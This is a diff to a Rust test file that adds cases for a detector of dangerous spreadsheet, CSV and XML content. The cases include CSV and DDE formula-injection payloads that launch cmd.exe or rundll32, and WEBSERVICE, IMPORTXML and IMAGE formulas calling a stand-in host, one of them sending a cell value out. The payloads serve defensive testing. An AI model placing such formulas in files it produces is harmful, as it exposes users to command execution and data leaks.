@@ -264,6 +264,24 @@ fn sheets_and_slides_that_fetch_or_start_something_are_refused() {
             Some(Danger::Remote),
         ),
         ("<c><f>RTD(\"a.b\",,\"x\")</f></c>", Some(Danger::Control)),
+        ("<c><f>cmd|'/C calc.exe'!A0</f></c>", Some(Danger::DdeField)),
+        (
+            "<c><f>1+MSEXCEL|'\\..\\cmd.exe /c calc.exe'!''</f></c>",
+            Some(Danger::DdeField),
+        ),
+        (
+            "<definedName name=\"a\">_xlfn.WEBSERVICE (\"http://vi-du.vn\")</definedName>",
+            Some(Danger::Remote),
+        ),
+        (
+            "<cfRule><formula>_xlfn.WEBSERVICE(&#10;A1)</formula></cfRule>",
+            Some(Danger::Remote),
+        ),
+        ("<c><f>IF(A1=\"a|b!\",1,2)</f></c>", None),
+        (
+            "<definedName name=\"_xlnm.Print_Area\">'Tờ 1'!$A$1:$C$9</definedName>",
+            None,
+        ),
         ("<c><f>SUM(A1:A9)</f><v>1</v></c>", None),
         ("<c><f>IF(A1=\"DDE\",1,2)</f></c>", None),
     ] {
@@ -278,6 +296,52 @@ fn sheets_and_slides_that_fetch_or_start_something_are_refused() {
         ),
     ]);
     assert_eq!(danger(&slides, "a.pptx"), Some(Danger::Program));
+}
+
+#[test]
+fn cells_of_a_table_that_start_or_fetch_something_are_refused_and_honest_ones_are_not() {
+    for cell in [
+        "=cmd|'/C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "=1+cmd|' /C calc'!A0",
+        "\"=10+20+cmd|' /C calc'!A0\"",
+        "=SUM(1,cmd|' /C calc'!A0)",
+        "=IF(1,cmd|' /C calc'!A0)",
+        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+    ] {
+        let file = format!("a,b\n1,{cell}\n");
+        assert_eq!(
+            danger(file.as_bytes(), "a.csv"),
+            Some(Danger::DdeField),
+            "{cell}"
+        );
+    }
+    for cell in [
+        "=WEBSERVICE(\"http://vi-du.vn/?\"&A1)",
+        "=IMPORTXML(\"http://vi-du.vn\";\"//a\")",
+        "=IMAGE(\"http://vi-du.vn/a.png\")",
+    ] {
+        let file = format!("a;b\n1;{cell}\n");
+        assert_eq!(
+            danger(file.as_bytes(), "a.csv"),
+            Some(Danger::Remote),
+            "{cell}"
+        );
+    }
+    for line in [
+        "- Mục một | mục hai !",
+        "| - a | b! |",
+        "=SUM(A1:A9)",
+        "a@x.vn|b!",
+        "-5,\"+84 238\",12/KH|UBND",
+        "Tỷ lệ = 5 | 6 !",
+    ] {
+        assert_eq!(danger(line.as_bytes(), "a.csv"), None, "{line}");
+    }
+    let xml = "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?>\
+        <Workbook xmlns:ss=\"a\"><Cell ss:Formula=\"=cmd|'/C calc.exe'!A0\"/></Workbook>";
+    assert_eq!(danger(xml.as_bytes(), "a.xml"), Some(Danger::DdeField));
 }
 
 #[test]
